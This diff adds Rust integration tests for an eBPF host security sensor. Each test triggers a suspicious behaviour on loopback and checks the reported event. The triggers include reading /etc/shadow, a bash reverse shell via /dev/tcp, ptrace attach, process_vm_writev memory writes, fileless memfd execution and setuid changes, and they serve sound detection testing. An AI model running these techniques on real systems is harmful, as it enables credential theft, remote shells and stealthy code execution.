@@ -1,0 +1,421 @@
+//! One test per event family of the kernel sensors: each triggers the behaviour from a child process on
+//! this host (loopback only) and checks the event and its attribution to that process.
+
+use std::io::{Read, Write};
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::net::UnixListener;
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use serde_json::Value;
+use ward_tests::{Agent, can_load_ebpf, marker};
+
+const WAIT: Duration = Duration::from_secs(10);
+const PYTHON: &str = "/usr/bin/python3";
+
+fn python(code: &str) -> Child {
+    Command::new(PYTHON)
+        .args(["-c", code])
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("python3")
+}
+
+fn run_python(code: &str) -> u32 {
+    let mut child = python(code);
+    let pid = child.id();
+    let status = child.wait().unwrap();
+    assert!(status.success(), "python snippet failed: {code}");
+    pid
+}
+
+fn by(pid: u32, kind: &'static str) -> impl Fn(&Value) -> bool {
+    move |e: &Value| e["type"] == kind && e["process"]["pid"] == pid
+}
+
+#[test]
+fn sensitive_file_reads_absolute_and_relative() {
+    if !can_load_ebpf("sensitive_file_reads_absolute_and_relative") {
+        return;
+    }
+    let agent = Agent::start(&["--types", "file_open"]);
+    let mut cat = Command::new("cat")
+        .arg("/etc/shadow")
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    let cat_pid = cat.id();
+    cat.wait().unwrap();
+    let e = agent
+        .wait_for(WAIT, by(cat_pid, "file_open"))
+        .expect("read of /etc/shadow");
+    assert_eq!(e["file"]["path"], "/etc/shadow");
+    assert_eq!(e["syscall"], "openat");
+    assert!(e["result"].as_i64().unwrap() >= 0);
+    assert!(
+        e["file"].get("flags").is_none(),
+        "a read-only open has no write flags: {e}"
+    );
+
+    // Relative to the working directory: resolved by the kernel to the absolute path.
+    let mut rel = Command::new("cat")
+        .arg("shadow")
+        .current_dir("/etc")
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    let rel_pid = rel.id();
+    rel.wait().unwrap();
+    let e = agent
+        .wait_for(WAIT, by(rel_pid, "file_open"))
+        .expect("relative read of shadow");
+    assert_eq!(e["file"]["path"], "/etc/shadow");
+    assert_eq!(e["file"]["given"], "shadow");
+
+    // A failed attempt is visible with its error: a read as nobody is refused.
+    let mut denied = Command::new("setpriv")
+        .args([
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+            "cat",
+            "/etc/shadow",
+        ])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let denied_pid = denied.id();
+    denied.wait().unwrap();
+    let e = agent
+        .wait_for(WAIT, by(denied_pid, "file_open"))
+        .expect("denied read of /etc/shadow");
+    assert_eq!(e["error"], "EACCES");
+    assert_eq!(e["process"]["uid"], 65534);
+    agent.stop();
+}
+
+#[test]
+fn create_then_setuid_bit_rename_and_unlink() {
+    if !can_load_ebpf("create_then_setuid_bit_rename_and_unlink") {
+        return;
+    }
+    let dir = std::env::temp_dir().join(marker("files"));
+    std::fs::create_dir_all(&dir).unwrap();
+    let agent = Agent::start(&["--types", "file_open,file_chmod,file_rename,file_unlink"]);
+    let mut sh = Command::new("sh")
+        .args([
+            "-c",
+            "touch tool && chmod u+s tool && mv tool tool2 && rm tool2",
+        ])
+        .current_dir(&dir)
+        .spawn()
+        .unwrap();
+    assert!(sh.wait().unwrap().success());
+    let path = |name: &str| dir.join(name).to_str().unwrap().to_string();
+    let created = agent
+        .wait_for(WAIT, |e| {
+            e["type"] == "file_open" && e["file"]["path"] == path("tool")
+        })
+        .expect("create of tool");
+    assert!(
+        created["file"]["flags"]
+            .as_array()
+            .unwrap()
+            .contains(&"O_CREAT".into()),
+        "{created}"
+    );
+    let chmod = agent
+        .wait_for(WAIT, |e| e["type"] == "file_chmod")
+        .expect("chmod u+s");
+    assert_eq!(chmod["file"]["path"], path("tool"));
+    let mode = u32::from_str_radix(chmod["file"]["mode"].as_str().unwrap(), 8).unwrap();
+    assert_eq!(mode & 0o4000, 0o4000, "setuid bit visible: {chmod}");
+    let rename = agent
+        .wait_for(WAIT, |e| e["type"] == "file_rename")
+        .expect("rename");
+    assert_eq!(rename["file"]["path"], path("tool"));
+    assert_eq!(rename["file"]["target"], path("tool2"));
+    let unlink = agent
+        .wait_for(WAIT, |e| e["type"] == "file_unlink")
+        .expect("unlink");
+    assert_eq!(unlink["file"]["path"], path("tool2"));
+    assert_eq!(unlink["process"]["name"], "rm");
+    agent.stop();
+    std::fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn tcp_connect_and_accept_on_loopback() {
+    if !can_load_ebpf("tcp_connect_and_accept_on_loopback") {
+        return;
+    }
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let agent = Agent::start(&["--types", "net_connect,net_accept"]);
+    let client = python(&format!(
+        "import socket,time; s=socket.create_connection(('127.0.0.1',{port})); print(s.getsockname()[1], flush=True); time.sleep(0.2)"
+    ));
+    let client_pid = client.id();
+    let (_conn, peer) = listener.accept().unwrap();
+    let connect = agent
+        .wait_for(WAIT, by(client_pid, "net_connect"))
+        .expect("connect event");
+    assert_eq!(connect["socket"]["remote"]["ip"], "127.0.0.1");
+    assert_eq!(connect["socket"]["remote"]["port"], port);
+    assert_eq!(
+        connect["socket"]["local"]["port"],
+        peer.port(),
+        "the kernel-chosen source port"
+    );
+    assert_eq!(connect["socket"]["protocol"], "tcp");
+    assert_eq!(connect["result"], 0);
+    let accept = agent
+        .wait_for(WAIT, by(std::process::id(), "net_accept"))
+        .expect("accept event");
+    assert_eq!(accept["socket"]["local"]["port"], port);
+    assert_eq!(accept["socket"]["remote"]["port"], peer.port());
+
+    // A refused connection is reported with its error.
+    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
+    let closed_port = closed.local_addr().unwrap().port();
+    drop(closed);
+    let refused = run_python(&format!(
+        "import socket\ntry:\n socket.create_connection(('127.0.0.1',{closed_port}))\nexcept OSError: pass"
+    ));
+    let e = agent
+        .wait_for(WAIT, by(refused, "net_connect"))
+        .expect("refused connect");
+    assert_eq!(e["error"], "ECONNREFUSED");
+    assert_eq!(e["socket"]["remote"]["port"], closed_port);
+    drop(client);
+    agent.stop();
+}
+
+#[test]
+fn unix_socket_connect_names_the_path() {
+    if !can_load_ebpf("unix_socket_connect_names_the_path") {
+        return;
+    }
+    let path = std::env::temp_dir().join(format!("{}.sock", marker("unix")));
+    let listener = UnixListener::bind(&path).unwrap();
+    let agent = Agent::start(&["--types", "net_connect"]);
+    let pid = run_python(&format!(
+        "import socket; s=socket.socket(socket.AF_UNIX); s.connect({:?})",
+        path.to_str().unwrap()
+    ));
+    let e = agent
+        .wait_for(WAIT, by(pid, "net_connect"))
+        .expect("unix connect");
+    assert_eq!(e["socket"]["family"], "unix");
+    assert_eq!(e["socket"]["path"], path.to_str().unwrap());
+    agent.stop();
+    drop(listener);
+    std::fs::remove_file(&path).unwrap();
+}
+
+/// A DNS server on 127.0.0.77:53 that answers every A query with 192.0.2.7.
+fn dns_server() -> std::thread::JoinHandle<()> {
+    let socket =
+        UdpSocket::bind("127.0.0.77:53").expect("bind 127.0.0.77:53 (needs root, port free)");
+    socket
+        .set_read_timeout(Some(Duration::from_secs(15)))
+        .unwrap();
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 512];
+        if let Ok((n, from)) = socket.recv_from(&mut buf) {
+            let question = &buf[12..n];
+            let mut reply = Vec::new();
+            reply.extend_from_slice(&buf[0..2]);
+            reply.extend_from_slice(&[0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
+            reply.extend_from_slice(question);
+            // Answer: pointer to the question name, A, IN, TTL 60, 4 bytes.
+            reply.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 7]);
+            socket.send_to(&reply, from).unwrap();
+        }
+    })
+}
+
+#[test]
+fn dns_query_and_answer_attributed_to_the_process() {
+    if !can_load_ebpf("dns_query_and_answer_attributed_to_the_process") {
+        return;
+    }
+    let server = dns_server();
+    let agent = Agent::start(&["--types", "dns_query,dns_response"]);
+    let pid = run_python(
+        "import socket,struct\n\
+         q=struct.pack('>HHHHHH',0x4242,0x0100,1,0,0,0)+b''.join(bytes([len(l)])+l for l in [b'pool',b'ward-test',b'example'])+b'\\x00'+struct.pack('>HH',1,1)\n\
+         s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q,('127.0.0.77',53)); s.recv(512)",
+    );
+    server.join().unwrap();
+    let query = agent
+        .wait_for(WAIT, by(pid, "dns_query"))
+        .expect("dns query event");
+    assert_eq!(query["dns"]["id"], 0x4242);
+    assert_eq!(
+        query["dns"]["questions"][0]["name"],
+        "pool.ward-test.example"
+    );
+    assert_eq!(query["dns"]["questions"][0]["type"], "A");
+    assert_eq!(query["dns"]["server"]["ip"], "127.0.0.77");
+    assert_eq!(query["dns"]["server"]["port"], 53);
+    let response = agent
+        .wait_for(WAIT, by(pid, "dns_response"))
+        .expect("dns response attributed by socket");
+    assert_eq!(response["dns"]["answers"][0]["data"], "192.0.2.7");
+    assert_eq!(response["dns"]["answers"][0]["ttl"], 60);
+    assert_eq!(response["dns"]["rcode"], "NoError");
+    agent.stop();
+}
+
+#[test]
+fn shell_with_socket_stdio_is_visible() {
+    if !can_load_ebpf("shell_with_socket_stdio_is_visible") {
+        return;
+    }
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let agent = Agent::start(&["--types", "process_exec,net_stdio_socket"]);
+    let mark = marker("revshell");
+    // The classic: bash puts a TCP socket on stdin, stdout and stderr, then runs an interactive shell.
+    let mut shell = Command::new("bash")
+        .args([
+            "-c",
+            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {mark}"),
+        ])
+        .stdin(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.write_all(b"exit\n").unwrap();
+    let mut sink = Vec::new();
+    let _ = conn.read_to_end(&mut sink);
+    shell.wait().unwrap();
+    let dup = agent
+        .wait_for(WAIT, |e| e["type"] == "net_stdio_socket")
+        .expect("dup2 of a socket onto stdio");
+    assert_eq!(dup["socket"]["remote"]["port"], port);
+    assert!(dup["socket"]["stdio_fd"].as_u64().unwrap() <= 2);
+    let exec = agent
+        .wait_for(WAIT, |e| {
+            e["type"] == "process_exec" && e["exec"]["stdio_sockets"].is_array()
+        })
+        .expect("exec of a shell whose stdio is a socket");
+    assert_eq!(exec["exec"]["stdio_sockets"], serde_json::json!([0, 1, 2]));
+    assert_eq!(exec["exec"]["stdio_socket"]["remote"]["ip"], "127.0.0.1");
+    assert_eq!(exec["exec"]["stdio_socket"]["remote"]["port"], port);
+    assert_eq!(exec["process"]["name"], "bash");
+    agent.stop();
+}
+
+#[test]
+fn ptrace_attach_and_process_vm_writev() {
+    if !can_load_ebpf("ptrace_attach_and_process_vm_writev") {
+        return;
+    }
+    let mut target = Command::new("sleep").arg("30").spawn().unwrap();
+    let target_pid = target.id();
+    let agent = Agent::start(&["--types", "ptrace,process_vm_access"]);
+    let tracer = run_python(&format!(
+        "import ctypes,os,time\nlibc=ctypes.CDLL(None,use_errno=True)\n\
+         assert libc.ptrace(16,{target_pid},0,0)==0\nos.waitpid({target_pid},0)\nlibc.ptrace(17,{target_pid},0,0)"
+    ));
+    let e = agent
+        .wait_for(WAIT, by(tracer, "ptrace"))
+        .expect("ptrace attach");
+    assert_eq!(e["target"]["request"], "PTRACE_ATTACH");
+    assert_eq!(e["target"]["pid"], target_pid);
+    assert_eq!(e["target"]["process"]["name"], "sleep");
+    assert_eq!(e["result"], 0);
+
+    // Write into our own memory through process_vm_writev (a real injection would name another process).
+    let writer = run_python(
+        "import ctypes,os\nlibc=ctypes.CDLL(None,use_errno=True)\n\
+         class iov(ctypes.Structure): _fields_=[('b',ctypes.c_void_p),('n',ctypes.c_size_t)]\n\
+         src=ctypes.create_string_buffer(b'ward'); dst=ctypes.create_string_buffer(4)\n\
+         l=iov(ctypes.cast(src,ctypes.c_void_p),4); r=iov(ctypes.cast(dst,ctypes.c_void_p),4)\n\
+         assert libc.process_vm_writev(os.getpid(),ctypes.byref(l),1,ctypes.byref(r),1,0)==4",
+    );
+    let e = agent
+        .wait_for(WAIT, by(writer, "process_vm_access"))
+        .expect("process_vm_writev");
+    assert_eq!(e["target"]["pid"], writer);
+    assert_eq!(e["target"]["write"], true);
+    assert_eq!(e["syscall"], "process_vm_writev");
+    target.kill().unwrap();
+    target.wait().unwrap();
+    agent.stop();
+}
+
+#[test]
+fn memfd_exec_is_fileless() {
+    if !can_load_ebpf("memfd_exec_is_fileless") {
+        return;
+    }
+    let agent = Agent::start(&["--types", "memfd_create,process_exec"]);
+    let mark = marker("memfd");
+    let pid = run_python(&format!(
+        "import os\nfd=os.memfd_create('ward-payload',0)\nos.write(fd,open('/bin/true','rb').read())\n\
+         os.execv('/proc/self/fd/%d'%fd,['payload','{mark}'])"
+    ));
+    let memfd = agent
+        .wait_for(WAIT, by(pid, "memfd_create"))
+        .expect("memfd_create");
+    assert_eq!(memfd["memfd"]["name"], "ward-payload");
+    let exec = agent
+        .wait_for(WAIT, |e| ward_tests::is_exec_with_arg(e, &mark))
+        .expect("exec of the memfd");
+    assert_eq!(exec["process"]["pid"], pid);
+    assert_eq!(exec["exec"]["fileless"], true);
+    agent.stop();
+}
+
+#[test]
+fn userfaultfd_mount_and_setuid() {
+    if !can_load_ebpf("userfaultfd_mount_and_setuid") {
+        return;
+    }
+    let agent = Agent::start(&["--types", "userfaultfd,mount,priv_setid"]);
+    let uffd = run_python("import ctypes\nlibc=ctypes.CDLL(None)\nlibc.syscall(323, 0o2000000)");
+    let e = agent
+        .wait_for(WAIT, by(uffd, "userfaultfd"))
+        .expect("userfaultfd");
+    assert_eq!(e["syscall"], "userfaultfd");
+
+    let target = std::env::temp_dir().join(marker("mnt"));
+    std::fs::create_dir_all(&target).unwrap();
+    let mut mount = Command::new("unshare")
+        .args([
+            "--mount",
+            "mount",
+            "-t",
+            "tmpfs",
+            "ward-test",
+            target.to_str().unwrap(),
+        ])
+        .spawn()
+        .unwrap();
+    assert!(mount.wait().unwrap().success());
+    let e = agent
+        .wait_for(WAIT, |e| {
+            e["type"] == "mount" && e["mount"]["target"] == target.to_str().unwrap()
+        })
+        .expect("mount event");
+    assert_eq!(e["mount"]["fstype"], "tmpfs");
+    assert_eq!(e["mount"]["source"], "ward-test");
+    assert_eq!(e["result"], 0);
+    std::fs::remove_dir(&target).unwrap();
+
+    let pid = run_python("import os\nos.setgid(65534)\nos.setuid(65534)");
+    let e = agent
+        .wait_for(WAIT, |e| {
+            e["type"] == "priv_setid" && e["process"]["pid"] == pid && e["syscall"] == "setuid"
+        })
+        .expect("setuid event");
+    assert_eq!(e["privilege"]["before"]["uid"], 0);
+    assert_eq!(e["privilege"]["after"]["uid"], 65534);
+    assert_eq!(e["privilege"]["after"]["euid"], 65534);
+    assert_eq!(e["privilege"]["requested"], serde_json::json!([65534]));
+    agent.stop();
+}
